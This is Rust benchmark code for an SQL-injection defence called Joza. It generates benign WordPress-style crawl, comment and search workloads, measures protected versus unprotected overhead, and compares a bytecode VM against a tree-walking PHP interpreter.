                ..PtiComponentConfig::optimized()
            },
        };
        JozaConfig { pti, wrapper_cost: WRAPPER_COST, ..JozaConfig::optimized() }
    }

    /// Human-readable label.
    pub fn label(self) -> &'static str {
        match self {
            Setup::Unoptimized => "unoptimized (per-query process, naive scan)",
            Setup::DaemonNoCache => "optimized daemon, no caches",
            Setup::DaemonQueryCache => "optimized daemon + query cache",
            Setup::DaemonFullCache => "optimized daemon + query + structure cache",
            Setup::ExtensionEstimate => "PHP-extension estimate (in-process)",
        }
    }
}

/// Builds the performance lab: the full WP-SQLI-LAB application with
/// (1) the WordPress-scale synthetic fragment corpus loaded and (2) the
/// calibrated per-route render costs assigned.
pub fn perf_lab() -> Lab {
    let mut lab = build_lab();
    for src in wordpress::synthetic_core_sources(SYNTHETIC_CORE_FILES) {
        lab.server.app.add_core_source(&src);
    }
    for (route, cost) in [
        ("index", READ_RENDER_COST),
        ("single-post", READ_RENDER_COST),
        ("post-comment", WRITE_RENDER_COST),
        ("search", SEARCH_RENDER_COST),
    ] {
        lab.server.app.plugin_mut(route).expect("core route exists").render_cost = cost;
    }
    lab
}

/// The crawl workload: unique URLs covering the front page, every post
/// (with cache-busting query parameters to reach the paper's 1001 unique
/// URLs), mirroring "crawling the entire website resulted in approximately
/// 20,000 SQL queries".
pub fn crawl_requests(unique_urls: usize) -> Vec<HttpRequest> {
    let mut out = Vec::with_capacity(unique_urls);
    out.push(HttpRequest::get("index"));
    let mut i = 0usize;
    while out.len() < unique_urls {
        let post = 1 + (i % 40);
        let mut req = HttpRequest::get("single-post").param("p", &post.to_string());
        if i >= 40 {
            // Unique URL, identical page: the query-cache-friendly case.
            req = req.query_param("utm", &format!("crawl{i}"));
        }
        out.push(req);
        i += 1;
    }
    out
}

/// The write workload: random comments (every body unique — the
/// query-cache-hostile, structure-cache-friendly case).
pub fn write_requests(n: usize, rng: &mut StdRng) -> Vec<HttpRequest> {
    let words = ["great", "post", "really", "liked", "the", "part", "about", "joza", "thanks"];
    (0..n)
        .map(|i| {
            let len = rng.random_range(4..12);
            let mut text = format!("comment #{i}:");
            for _ in 0..len {
                text.push(' ');
                text.push_str(words[rng.random_range(0..words.len())]);
            }
            HttpRequest::post("post-comment")
                .param("comment_post_ID", &(1 + (i % 20)).to_string())
                .param("author", &format!("visitor{}", rng.random_range(0..1000)))
                .param("comment", &text)
        })
        .collect()
}

/// A write pass for steady-state measurement: pass `pass` of `n` fresh
/// comments (unique across passes, as production writes are).
pub fn write_requests_pass(n: usize, pass: usize) -> Vec<HttpRequest> {
    let mut rng = StdRng::seed_from_u64(0xC0FFEE ^ pass as u64);
    let mut reqs = write_requests(n, &mut rng);
    for (i, r) in reqs.iter_mut().enumerate() {
        if let Some(v) = r.post.iter_mut().find(|(k, _)| k == "comment") {
            v.1 = format!("[pass {pass} #{i}] {}", v.1);
        }
    }
    reqs
}

/// The search workload: random search terms.
pub fn search_requests(n: usize, rng: &mut StdRng) -> Vec<HttpRequest> {
    let terms = ["lorem", "ipsum", "post", "number", "entry", "content", "about", "zzz"];
    (0..n)
        .map(|_| {
            let t = terms[rng.random_range(0..terms.len())];
            HttpRequest::get("search").param("s", t)
        })
        .collect()
}

/// Measured outcome of one workload run.
#[derive(Debug, Clone, Copy, Default)]
pub struct RunStats {
    /// Wall-clock total across requests.
    pub total: Duration,
    /// Requests served.
    pub requests: usize,
    /// Queries issued by the application.
    pub queries: usize,
    /// Time inside NTI (protected runs only).
    pub nti_time: Duration,
    /// Time inside PTI (protected runs only).
    pub pti_time: Duration,
    /// Time inside the gate as measured at the interception point.
    pub gate_time: Duration,
}

impl RunStats {
    /// Mean time per request.
    pub fn per_request(&self) -> Duration {
        if self.requests == 0 {
            Duration::ZERO
        } else {
            self.total / self.requests as u32
        }
    }
}

/// Runs a request list against a fresh perf lab, optionally protected.
pub fn run_workload(requests: &[HttpRequest], setup: Option<Setup>) -> RunStats {
    run_workload_in(&mut perf_lab(), requests, setup)
}

/// A reusable measurement fixture: one lab and (optionally) one installed
/// Joza engine, so caches reach steady state across passes — the regime
/// the paper's live-site measurements reflect.
pub struct MeasureBench {
    lab: Lab,
    joza: Option<Joza>,
}

impl MeasureBench {
    /// Builds the fixture over a fresh perf lab.
    pub fn new(setup: Option<Setup>) -> Self {
        let lab = perf_lab();
        let joza = setup.map(|s| Joza::install(&lab.server.app, s.joza_config()));
        MeasureBench { lab, joza }
    }

    /// One timed pass over `requests`, reporting only this pass's times.
    /// The database is re-seeded first so write accumulation from earlier
    /// passes cannot skew this one; Joza's caches are left warm.
    ///
    /// # Panics
    ///
    /// Panics if a benign request is blocked (a false positive).
    pub fn pass(&mut self, requests: &[HttpRequest]) -> RunStats {
        self.lab.reset_database();
        let before = self.joza.as_ref().map(|j| j.stats()).unwrap_or_default();
        let mut stats = RunStats { requests: requests.len(), ..Default::default() };
        for req in requests {
            let resp = match &self.joza {
                Some(j) => self.lab.server.handle_with(req, j),
                None => self.lab.server.handle(req),
            };
            assert!(!resp.blocked, "benign workload request blocked: {req:?}");
            stats.total += resp.total_time;
            stats.queries += resp.queries.len();
            stats.gate_time += resp.gate_time;
        }
        if let Some(j) = &self.joza {
            let after = j.stats();
            stats.nti_time = after.nti_time - before.nti_time;
            stats.pti_time = after.pti_time - before.pti_time;
        }
        stats
    }

    /// Warm pass: runs the workload untimed so caches (query cache,
    /// structure cache, MRU fragment order) reach steady state.
    pub fn warmup(&mut self, requests: &[HttpRequest]) {
        let _ = self.pass(requests);
    }
}

/// Steady-state measurement: warm the caches with one untimed pass, then
/// return the median-total of `reps` timed passes.
///
/// Suitable for read/search workloads, where re-serving the same URLs is
/// exactly what a steady-state site does. For write workloads use
/// [`measure_steady_gen`] — real writes carry fresh content every time,
/// and replaying identical writes would let the query cache absorb work
/// it never could in production.
pub fn measure_steady(requests: &[HttpRequest], setup: Option<Setup>, reps: usize) -> RunStats {
    measure_steady_gen(setup, reps, |_| requests.to_vec())
}

/// Steady-state measurement with a per-pass request generator.
///
/// `gen(0)` produces the untimed warmup pass; `gen(1..=reps)` produce the
/// timed passes. Every pass should draw from the same distribution; write
/// generators should vary content across passes (unique comments) so the
/// caches see the production hit pattern rather than a replay.
pub fn measure_steady_gen<F>(setup: Option<Setup>, reps: usize, gen: F) -> RunStats
where
    F: Fn(usize) -> Vec<HttpRequest>,
{
    let mut bench = MeasureBench::new(setup);
    bench.warmup(&gen(0));
    let mut runs: Vec<RunStats> = (1..=reps.max(1)).map(|i| bench.pass(&gen(i))).collect();
    runs.sort_by_key(|r| r.total);
    runs[runs.len() / 2]
}

/// Plain and protected steady-state measurements with their passes
/// *interleaved* (plain pass 1, protected pass 1, plain pass 2, …) so
/// slow clock-speed drift affects both sides equally. Returns
/// `(plain, protected)` medians.
pub fn measure_pair_gen<F>(setup: Setup, reps: usize, gen: F) -> (RunStats, RunStats)
where
    F: Fn(usize) -> Vec<HttpRequest>,
{
    let mut plain = MeasureBench::new(None);
    let mut protected = MeasureBench::new(Some(setup));
    let warm = gen(0);
    plain.warmup(&warm);
    protected.warmup(&warm);
    let mut plain_runs = Vec::new();
    let mut protected_runs = Vec::new();
    for i in 1..=reps.max(1) {
        let reqs = gen(i);
        plain_runs.push(plain.pass(&reqs));
        protected_runs.push(protected.pass(&reqs));
    }
    plain_runs.sort_by_key(|r| r.total);
    protected_runs.sort_by_key(|r| r.total);
    (plain_runs[plain_runs.len() / 2], protected_runs[protected_runs.len() / 2])
}

/// Runs a request list against the given lab, optionally protected.
///
/// # Panics
///
/// Panics if any (benign) request is blocked — that would be a false
/// positive, which §V-B establishes Joza does not produce.
pub fn run_workload_in(lab: &mut Lab, requests: &[HttpRequest], setup: Option<Setup>) -> RunStats {
    let joza = setup.map(|s| Joza::install(&lab.server.app, s.joza_config()));
    let mut stats = RunStats { requests: requests.len(), ..Default::default() };
    for req in requests {
        let resp = match &joza {
            Some(j) => lab.server.handle_with(req, j),
            None => lab.server.handle(req),
        };
        assert!(!resp.blocked, "benign workload request blocked: {req:?}");
        stats.total += resp.total_time;
        stats.queries += resp.queries.len();
        stats.gate_time += resp.gate_time;
    }
    if let Some(j) = &joza {
        let js = j.stats();
        stats.nti_time = js.nti_time;
        stats.pti_time = js.pti_time;
    }
    stats
}

/// Runs `reps` repetitions of a workload (fresh lab each time) and returns
/// the repetition with the median total time — robust to scheduler noise.
pub fn run_workload_median(
    requests: &[HttpRequest],
    setup: Option<Setup>,
    reps: usize,
) -> RunStats {
    let mut runs: Vec<RunStats> = (0..reps.max(1)).map(|_| run_workload(requests, setup)).collect();
    runs.sort_by_key(|r| r.total);
    runs[runs.len() / 2]
}

/// Relative overhead of `protected` over `plain`.
pub fn overhead(plain: Duration, protected: Duration) -> f64 {
    if plain.is_zero() {
        return 0.0;
    }
    (protected.as_secs_f64() - plain.as_secs_f64()) / plain.as_secs_f64()
}

/// A mixed read/write workload measurement (one Table VI row).
#[derive(Debug, Clone, Copy)]
pub struct MixResult {
    /// Write fraction in `[0, 1]`.
    pub write_fraction: f64,
    /// Plain mean time per request.
    pub plain: Duration,
    /// Protected mean time per request.
    pub protected: Duration,
    /// Relative overhead.
    pub overhead: f64,
}

/// Builds the request list for a read/write mix: `writes_pct` percent
/// writes interleaved evenly through the reads.
pub fn mix_requests(writes_pct: usize, total_requests: usize) -> Vec<HttpRequest> {
    let mut rng = StdRng::seed_from_u64(42);
    let writes = total_requests * writes_pct / 100;
    let reads = total_requests - writes;
    let mut requests = crawl_requests(reads);
    let w = write_requests(writes, &mut rng);
    if !w.is_empty() {
        let stride = (requests.len() / w.len()).max(1);
        for (i, wr) in w.into_iter().enumerate() {
            let at = (i * stride + i).min(requests.len());
            requests.insert(at, wr);
        }
    }
    requests
}

/// Measures a read/write mix (Table VI): `writes_pct` percent writes.
/// Write content is fresh in every pass.
pub fn measure_mix(
    writes_pct: usize,
    total_requests: usize,
    setup: Setup,
    reps: usize,
) -> MixResult {
    let gen = |pass: usize| mix_requests_pass(writes_pct, total_requests, pass);
    let (plain, protected) = measure_pair_gen(setup, reps, gen);
    MixResult {
        write_fraction: writes_pct as f64 / 100.0,
        plain: plain.per_request(),
        protected: protected.per_request(),
        overhead: overhead(plain.total, protected.total),
    }
}

/// Builds one pass of a read/write mix with pass-unique write content.
pub fn mix_requests_pass(
    writes_pct: usize,
    total_requests: usize,
    pass: usize,
) -> Vec<HttpRequest> {
    let writes = total_requests * writes_pct / 100;
    let reads = total_requests - writes;
    let mut requests = crawl_requests(reads);
    let w = write_requests_pass(writes, pass);
    if !w.is_empty() {
        let stride = (requests.len() / w.len()).max(1);
        for (i, wr) in w.into_iter().enumerate() {
            let at = (i * stride + i).min(requests.len());
            requests.insert(at, wr);
        }
    }
    requests
}

/// Per-request-type measurement for Figure 8 / Table V.
#[derive(Debug, Clone, Copy)]
pub struct TypeResult {
    /// Plain per-request time.
    pub plain: Duration,
    /// Protected per-request time.
    pub protected: Duration,
    /// NTI share of protected time.
    pub nti: Duration,
    /// PTI share of protected time.
    pub pti: Duration,
    /// Relative overhead.
    pub overhead: f64,
}

/// Measures one request list plain vs protected (steady-state medians of
/// `reps` passes).
pub fn measure_type(requests: &[HttpRequest], setup: Setup, reps: usize) -> TypeResult {
    let plain = measure_steady(requests, None, reps);
    measure_type_against(requests, setup, reps, &plain)
}

/// Measures one request list against an already-measured plain baseline.
pub fn measure_type_against(
    requests: &[HttpRequest],
    setup: Setup,
    reps: usize,
    plain: &RunStats,
) -> TypeResult {
    measure_type_gen(setup, reps, |_| requests.to_vec(), plain)
}

/// Generator-based variant of [`measure_type_against`] for workloads
/// whose content must differ per pass (writes).
pub fn measure_type_gen<F>(setup: Setup, reps: usize, gen: F, plain: &RunStats) -> TypeResult
where
    F: Fn(usize) -> Vec<HttpRequest>,
{
    let protected = measure_steady_gen(Some(setup), reps, &gen);
    let n = protected.requests.max(1) as u32;
    TypeResult {
        plain: plain.per_request(),
        protected: protected.per_request(),
        nti: protected.nti_time / n,
        pti: protected.pti_time / n,
        overhead: overhead(plain.total, protected.total),
    }
}

/// Ensures the crawl reaches the paper's scale: ~20 queries per page.
pub fn queries_per_read_request() -> f64 {
    let reqs = crawl_requests(50);
    let mut lab = build_lab(); // plain lab: no render costs needed
    let stats = run_workload_in(&mut lab, &reqs, None);
    stats.queries as f64 / stats.requests as f64
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crawl_is_unique_and_sized() {
        let reqs = crawl_requests(100);
        assert_eq!(reqs.len(), 100);
        let mut keys: Vec<String> = reqs.iter().map(|r| format!("{r:?}")).collect();
        keys.sort();
        keys.dedup();
        assert_eq!(keys.len(), 100, "crawl URLs must be unique");
    }

    #[test]
    fn reads_issue_many_queries() {
        let qpr = queries_per_read_request();
        assert!(qpr >= 5.0, "WordPress-style reads should be query-heavy, got {qpr}");
    }

    #[test]
    fn protected_run_blocks_nothing_benign() {
        let mut rng = StdRng::seed_from_u64(7);
        let mut reqs = crawl_requests(20);
        reqs.extend(write_requests(5, &mut rng));
        reqs.extend(search_requests(5, &mut rng));
        // Plain (uncalibrated) lab: keeps the test fast.
        let mut lab = build_lab();
        let stats = run_workload_in(&mut lab, &reqs, Some(Setup::DaemonFullCache));
        assert_eq!(stats.requests, 30);
        assert!(stats.pti_time > Duration::ZERO);
    }

    #[test]
    fn overhead_math() {
        assert!(
            (overhead(Duration::from_millis(100), Duration::from_millis(104)) - 0.04).abs() < 1e-9
        );
        assert_eq!(overhead(Duration::ZERO, Duration::from_millis(1)), 0.0);
    }

    #[test]
    fn all_setups_produce_configs() {
        for s in [
            Setup::Unoptimized,
            Setup::DaemonNoCache,
            Setup::DaemonQueryCache,
            Setup::DaemonFullCache,
            Setup::ExtensionEstimate,
        ] {
            let cfg = s.joza_config();
            assert!(!cfg.disable_pti);
            assert!(!s.label().is_empty());
        }
    }

    #[test]
    fn extension_estimate_pays_no_boundary_costs() {
        let cfg = Setup::ExtensionEstimate.joza_config();
        assert_eq!(cfg.pti.pipe_cost, Duration::ZERO);
        assert_eq!(cfg.pti.response_parse_cost, Duration::ZERO);
        assert_eq!(cfg.pti.spawn_cost, Duration::ZERO);
        let cfg = Setup::DaemonFullCache.joza_config();
        assert!(cfg.pti.pipe_cost > Duration::ZERO);
    }

    #[test]
    fn seeded_workloads_are_deterministic() {
        let mut a = StdRng::seed_from_u64(1);
        let mut b = StdRng::seed_from_u64(1);
        assert_eq!(write_requests(5, &mut a), write_requests(5, &mut b));
    }

    #[test]
    fn mix_request_counts() {
        let reqs = mix_requests(10, 100);
        assert_eq!(reqs.len(), 100);
        let writes = reqs.iter().filter(|r| !r.post.is_empty()).count();
        assert_eq!(writes, 10);
    }

    #[test]
    fn perf_lab_has_big_vocabulary_and_render_costs() {
        let lab = perf_lab();
        assert!(lab.server.app.all_sources().len() > SYNTHETIC_CORE_FILES);
        assert_eq!(lab.server.app.plugin("single-post").unwrap().render_cost, READ_RENDER_COST);
        assert_eq!(lab.server.app.plugin("post-comment").unwrap().render_cost, WRITE_RENDER_COST);
    }

    #[test]
    fn wordpress_secret_stays_secret_under_load() {
        let reqs = crawl_requests(10);
        let mut lab = build_lab();
        for r in &reqs {
            let resp = lab.server.handle(r);
            assert!(!resp.body.contains(wordpress::SECRET_PASSWORD));
        }
    }
}
