//! Table VI: overall overhead across read/write workload mixes.

use joza_bench::report::{pct, render_table};
use joza_bench::workload::{measure_mix, Setup};

fn main() {
    let total = std::env::args().nth(1).and_then(|a| a.parse().ok()).unwrap_or(200);
    println!("TABLE VI: Overhead of Joza on different workloads\n");
    let mut rows = Vec::new();
    for writes_pct in [50usize, 10, 5, 1] {
        let m = measure_mix(writes_pct, total, Setup::DaemonFullCache, 5);
        rows.push(vec![
            format!("{writes_pct}%"),
            format!("{}%", 100 - writes_pct),
            format!("{:?}", m.plain),
            format!("{:?}", m.protected),
            pct(m.overhead),
        ]);
    }
    println!(
        "{}",
        render_table(&["Writes", "Reads", "Plain Time", "Protected Time", "Overhead"], &rows)
    );
    println!("(paper: 50/50: 8.96%, 10/90: 5.16%, 5/95: 4.53%, 1/99: 4.03%)");
}
