//! Bytecode-VM serving benchmark: the compile+VM engine against the
//! tree-walking oracle, end to end through the web-application simulator.
//!
//! Four sections:
//!
//! 1. **Compile-once amortization** — wall time to parse + compile every
//!    routable source (the per-route cost paid exactly once, cached as
//!    `Arc<Chunk>`), against the steady-state wall of serving one full
//!    corpus pass from warm caches. The ratio is how many *whole corpus
//!    passes* one cold compile of the entire application costs.
//! 2. **Testbed corpus throughput** — the benign corpus (core routes +
//!    every plugin's benign request) served by both engines, *asserting
//!    bit-identical responses* (body, query stream, SQL error, blocked
//!    flag) while timing. These routes are database-bound (table scans
//!    dominate), so the engine gap is diluted — the honest
//!    whole-testbed number.
//! 3. **Render routes throughput** — interpreter-bound page-render
//!    routes (fetch once, then nested loops accumulating HTML with `.=`,
//!    per-cell arithmetic, and indexed row reads — the WordPress theme-
//!    loop idiom). Here engine cost dominates the request, so this is
//!    the number that measures the VM itself end to end; the
//!    `--min-speedup` floor is enforced on it. Responses are asserted
//!    bit-identical across engines just like section 2.
//! 4. **Soak** (`--soak N`) — N requests round-robin over corpus +
//!    render routes on the VM engine with per-request latency sampling:
//!    steady-state p50/p90/p99/max and invariant checks (nothing
//!    blocked, no SQL errors, query count conserved across the run).
//!
//! Usage:
//!
//! ```text
//! vm [--requests N] [--repeat R] [--soak S] [--min-speedup F]
//!    [--out results/BENCH_vm.json]
//! ```
//!
//! `--min-speedup F` makes the run fail (exit 1) if the end-to-end
//! Vm/TreeWalk throughput ratio lands below `F` — the CI floor that
//! keeps the bytecode engine from regressing to tree-walk speed.

use joza_bench::report::{git_rev, provenance_json, render_table};
use joza_lab::harden::benign_corpus;
use joza_lab::verify::request_for;
use joza_lab::{build_lab, Lab};
use joza_webapp::request::HttpRequest;
use joza_webapp::server::{Engine, Response};
use std::time::{Duration, Instant};

#[derive(Debug)]
struct Args {
    requests: usize,
    repeat: usize,
    soak: usize,
    min_speedup: f64,
    out: String,
}

fn parse_args() -> Args {
    let mut args = Args {
        requests: 0, // 0 = the natural corpus size
        repeat: 3,
        soak: 2000,
        min_speedup: 0.0,
        out: "results/BENCH_vm.json".to_string(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--repeat" => args.repeat = value().parse().expect("--repeat"),
            "--soak" => args.soak = value().parse().expect("--soak"),
            "--min-speedup" => args.min_speedup = value().parse().expect("--min-speedup"),
            "--out" => args.out = value(),
            other => panic!("unknown flag {other}"),
        }
    }
    args
}

/// Interpreter-bound render routes: one query, then loops that build the
/// page string — the WordPress theme-loop shape where the engine (not
/// the database) dominates request time.
const RENDER_ROUTES: [(&str, &str); 3] = [
    (
        "vmb-render-table",
        r#"
        $cat = intval($_GET['cat']);
        $r = mysql_query("SELECT ID, post_title FROM wp_posts WHERE post_status = 'publish' ORDER BY ID");
        $html = "";
        $n = 0;
        while ($row = mysql_fetch_assoc($r)) {
            $n = $n + 1;
            $i = 0;
            while ($i < 24) {
                $i = $i + 1;
                $html .= "<td id='c" . $n . "_" . $i . "'>" . $row['post_title'] . ":" . ($i * 3 + $cat) . "</td>";
            }
            $html .= "</tr><tr>";
        }
        echo "<table><tr>" . $html . "</tr></table>";
        echo "<p>rows=" . $n . " cat=" . $cat . "</p>";
        "#,
    ),
    (
        "vmb-render-archive",
        r#"
        $page = intval($_GET['page']);
        $r = mysql_query("SELECT ID, post_title, post_date FROM wp_posts WHERE post_status = 'publish' ORDER BY post_date DESC");
        $out = "";
        while ($row = mysql_fetch_assoc($r)) {
            $title = strtoupper($row['post_title']);
            $j = 0;
            while ($j < 16) {
                $j = $j + 1;
                $out .= "<li data-p='" . $page . "'>" . $title . " / " . $row['post_date'] . " #" . ($j * $j % 7) . "</li>";
            }
        }
        echo "<ul>" . $out . "</ul>";
        "#,
    ),
    (
        "vmb-render-crumbs",
        r#"
        $s = trim($_GET['s']);
        $crumbs = "";
        $k = 0;
        while ($k < 220) {
            $k = $k + 1;
            $crumbs .= "<a href='/p/" . $k . "?q=" . $s . "'>" . ($k % 10) . "." . strlen($s) . "</a> &raquo; ";
        }
        echo "<nav>" . $crumbs . "</nav>";
        $r = mysql_query("SELECT COUNT(*) FROM wp_posts WHERE post_status = 'publish'");
        $row = mysql_fetch_row($r);
        echo "<span>" . $row[0] . "</span>";
        "#,
    ),
];

/// Registers the render routes on a lab and returns their request mix.
fn render_corpus(lab: &mut Lab, n: usize) -> Vec<HttpRequest> {
    for (slug, src) in RENDER_ROUTES {
        lab.server.app.add_plugin(joza_webapp::Plugin::new(slug, "1.0", src));
    }
    let mut reqs = Vec::with_capacity(n.max(RENDER_ROUTES.len()));
    for i in 0..n.max(RENDER_ROUTES.len()) {
        reqs.push(match i % 3 {
            0 => HttpRequest::get("vmb-render-table").param("cat", &(i % 9).to_string()),
            1 => HttpRequest::get("vmb-render-archive").param("page", &(i % 5).to_string()),
            _ => HttpRequest::get("vmb-render-crumbs").param("s", "lorem ipsum"),
        });
    }
    reqs
}

/// The benchmark corpus: the benign performance corpus (core routes)
/// plus every plugin's benign request — all 57 routes exercised, no
/// attacks, truncated/cycled to `n` when requested.
fn corpus(lab: &Lab, n: usize) -> Vec<HttpRequest> {
    let mut reqs = benign_corpus(lab);
    for p in lab.plugins.iter().chain(lab.cms_cases.iter()) {
        reqs.push(request_for(p, &p.benign_value));
    }
    if n > 0 {
        let base = reqs.clone();
        while reqs.len() < n {
            reqs.push(base[reqs.len() % base.len()].clone());
        }
        reqs.truncate(n);
    }
    reqs
}

/// Serves one corpus pass, returning wall time, responses, and total
/// query count.
fn pass(lab: &mut Lab, corpus: &[HttpRequest]) -> (Duration, Vec<Response>, usize) {
    let started = Instant::now();
    let responses: Vec<Response> = corpus.iter().map(|r| lab.server.handle(r)).collect();
    let wall = started.elapsed();
    let queries = responses.iter().map(|r| r.queries.len()).sum();
    (wall, responses, queries)
}

/// Timed measurement: one warmup pass (fills parse/compile caches), then
/// `repeat` timed passes with a database reset before each so both
/// engines serve identical content.
fn measure(lab: &mut Lab, corpus: &[HttpRequest], repeat: usize) -> (f64, f64, Vec<Response>) {
    lab.reset_database();
    let _ = pass(lab, corpus);
    let mut wall = Duration::ZERO;
    let mut queries = 0usize;
    let mut last = Vec::new();
    for _ in 0..repeat.max(1) {
        lab.reset_database();
        let (w, responses, q) = pass(lab, corpus);
        wall += w;
        queries += q;
        last = responses;
    }
    let secs = wall.as_secs_f64();
    let n = (corpus.len() * repeat.max(1)) as f64;
    (
        if secs > 0.0 { n / secs } else { 0.0 },
        if secs > 0.0 { queries as f64 / secs } else { 0.0 },
        last,
    )
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    let idx = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[idx.min(sorted.len() - 1)]
}

fn main() {
    let args = parse_args();
    let mut vm_lab = build_lab();
    let mut tw_lab = build_lab();
    tw_lab.server.set_engine(Engine::TreeWalk);
    let corpus = corpus(&vm_lab, args.requests);
    let render = render_corpus(&mut vm_lab, 24);
    let _ = render_corpus(&mut tw_lab, 24);
    println!(
        "vm bench @ {}: {} corpus + {} render requests x {} passes, soak {}",
        git_rev(),
        corpus.len(),
        render.len(),
        args.repeat,
        args.soak
    );

    // -- Section 1: compile-once amortization --------------------------
    // Cold: parse + compile every routable source on a fresh app.
    let mut cold_lab = build_lab();
    let routes: Vec<String> = corpus.iter().map(|r| r.path.clone()).collect();
    let mut unique: Vec<String> = routes.clone();
    unique.sort();
    unique.dedup();
    let compile_start = Instant::now();
    for slug in &unique {
        cold_lab.server.app.chunk(slug).expect("route must compile");
    }
    let compile_wall = compile_start.elapsed();

    // -- Section 2: end-to-end throughput, both engines ----------------
    let (vm_rps, vm_qps, vm_responses) = measure(&mut vm_lab, &corpus, args.repeat);
    let (tw_rps, tw_qps, tw_responses) = measure(&mut tw_lab, &corpus, args.repeat);
    assert_eq!(vm_responses.len(), tw_responses.len());
    for (i, (v, t)) in vm_responses.iter().zip(&tw_responses).enumerate() {
        assert_eq!(v.body, t.body, "body diverged on request #{i} ({})", corpus[i].path);
        assert_eq!(v.queries, t.queries, "queries diverged on request #{i}");
        assert_eq!(v.sql_error, t.sql_error, "sql_error diverged on request #{i}");
        assert_eq!(v.blocked, t.blocked, "blocked diverged on request #{i}");
    }
    let speedup = if tw_rps > 0.0 { vm_rps / tw_rps } else { 0.0 };

    // -- Section 3: interpreter-bound render routes --------------------
    let (vm_render_rps, _, vm_render_responses) = measure(&mut vm_lab, &render, args.repeat);
    let (tw_render_rps, _, tw_render_responses) = measure(&mut tw_lab, &render, args.repeat);
    for (i, (v, t)) in vm_render_responses.iter().zip(&tw_render_responses).enumerate() {
        assert_eq!(v.body, t.body, "render body diverged on request #{i} ({})", render[i].path);
        assert_eq!(v.queries, t.queries, "render queries diverged on request #{i}");
        assert_eq!(v.sql_error, t.sql_error, "render sql_error diverged on request #{i}");
        assert_eq!(v.blocked, t.blocked, "render blocked diverged on request #{i}");
    }
    let render_speedup = if tw_render_rps > 0.0 { vm_render_rps / tw_render_rps } else { 0.0 };

    // Steady-state corpus-pass wall on the VM engine, for the
    // amortization ratio.
    let steady_pass_wall = if vm_rps > 0.0 { corpus.len() as f64 / vm_rps } else { 0.0 };
    let compile_in_passes =
        if steady_pass_wall > 0.0 { compile_wall.as_secs_f64() / steady_pass_wall } else { 0.0 };

    // -- Section 4: soak ------------------------------------------------
    vm_lab.reset_database();
    let soak_corpus: Vec<&HttpRequest> = corpus.iter().chain(render.iter()).collect();
    let mut latencies: Vec<Duration> = Vec::with_capacity(args.soak);
    let mut soak_queries = 0usize;
    let mut expected_queries = 0usize;
    let per_request_queries: Vec<usize> =
        vm_responses.iter().chain(vm_render_responses.iter()).map(|r| r.queries.len()).collect();
    for i in 0..args.soak {
        let req = soak_corpus[i % soak_corpus.len()];
        if i % soak_corpus.len() == 0 {
            // Reset at every corpus boundary so steady-state latency is
            // not confounded by unbounded table growth from writes.
            vm_lab.reset_database();
        }
        let started = Instant::now();
        let resp = vm_lab.server.handle(req);
        latencies.push(started.elapsed());
        assert!(!resp.blocked, "soak: benign request blocked ({})", req.path);
        assert!(resp.sql_error.is_none(), "soak: benign request errored ({})", req.path);
        soak_queries += resp.queries.len();
        expected_queries += per_request_queries[i % soak_corpus.len()];
    }
    assert_eq!(soak_queries, expected_queries, "soak: query count not conserved");
    // Steady state only: drop the first 10% as warmup before ranking.
    let warm = latencies.len() / 10;
    let mut steady: Vec<Duration> = latencies[warm..].to_vec();
    steady.sort();
    let (p50, p90, p99) =
        (percentile(&steady, 0.50), percentile(&steady, 0.90), percentile(&steady, 0.99));
    let max = steady.last().copied().unwrap_or_default();

    let rows = vec![
        vec!["routes compiled (cold)".into(), unique.len().to_string()],
        vec!["compile wall (all routes)".into(), format!("{compile_wall:?}")],
        vec!["compile cost in corpus passes".into(), format!("{compile_in_passes:.2}")],
        vec!["testbed vm requests/s".into(), format!("{vm_rps:.1}")],
        vec!["testbed tree-walk requests/s".into(), format!("{tw_rps:.1}")],
        vec!["testbed vm queries/s".into(), format!("{vm_qps:.1}")],
        vec!["testbed tree-walk queries/s".into(), format!("{tw_qps:.1}")],
        vec!["testbed speedup (db-bound)".into(), format!("{speedup:.2}x")],
        vec!["render vm requests/s".into(), format!("{vm_render_rps:.1}")],
        vec!["render tree-walk requests/s".into(), format!("{tw_render_rps:.1}")],
        vec!["render speedup (engine-bound)".into(), format!("{render_speedup:.2}x")],
        vec!["soak requests".into(), args.soak.to_string()],
        vec!["soak p50 / p90 / p99".into(), format!("{p50:?} / {p90:?} / {p99:?}")],
        vec!["soak max".into(), format!("{max:?}")],
        vec!["soak queries conserved".into(), soak_queries.to_string()],
    ];
    println!("\n{}", render_table(&["Metric", "Value"], &rows));
    println!(
        "ok: {} responses bit-identical across engines",
        vm_responses.len() + vm_render_responses.len()
    );

    let json = format!(
        "{{\n  \"benchmark\": \"vm\",\n  \"provenance\": {},\n  \
         \"corpus\": {{\"requests\": {}, \"passes\": {}, \"routes\": {}}},\n  \
         \"compile\": {{\"routes\": {}, \"wall_us\": {}, \"cost_in_corpus_passes\": {:.3}}},\n  \
         \"testbed\": {{\"workload\": \"benign corpus, db-bound\", \"vm_rps\": {:.1}, \
         \"tree_walk_rps\": {:.1}, \"vm_qps\": {:.1}, \"tree_walk_qps\": {:.1}, \
         \"speedup\": {:.3}, \"responses_identical\": true}},\n  \
         \"render\": {{\"workload\": \"page-render loops, engine-bound\", \"requests\": {}, \
         \"vm_rps\": {:.1}, \"tree_walk_rps\": {:.1}, \"speedup\": {:.3}, \
         \"responses_identical\": true}},\n  \
         \"soak\": {{\"requests\": {}, \"p50_us\": {}, \"p90_us\": {}, \"p99_us\": {}, \
         \"max_us\": {}, \"queries\": {}, \"blocked\": 0, \"sql_errors\": 0}}\n}}\n",
        provenance_json(&joza_core::MatchKernel::default().to_string()),
        corpus.len(),
        args.repeat,
        unique.len(),
        unique.len(),
        compile_wall.as_micros(),
        compile_in_passes,
        vm_rps,
        tw_rps,
        vm_qps,
        tw_qps,
        speedup,
        render.len(),
        vm_render_rps,
        tw_render_rps,
        render_speedup,
        args.soak,
        p50.as_micros(),
        p90.as_micros(),
        p99.as_micros(),
        max.as_micros(),
        soak_queries,
    );
    if let Some(dir) = std::path::Path::new(&args.out).parent() {
        std::fs::create_dir_all(dir).expect("create output directory");
    }
    std::fs::write(&args.out, &json).expect("write vm results");
    println!("wrote {}", args.out);

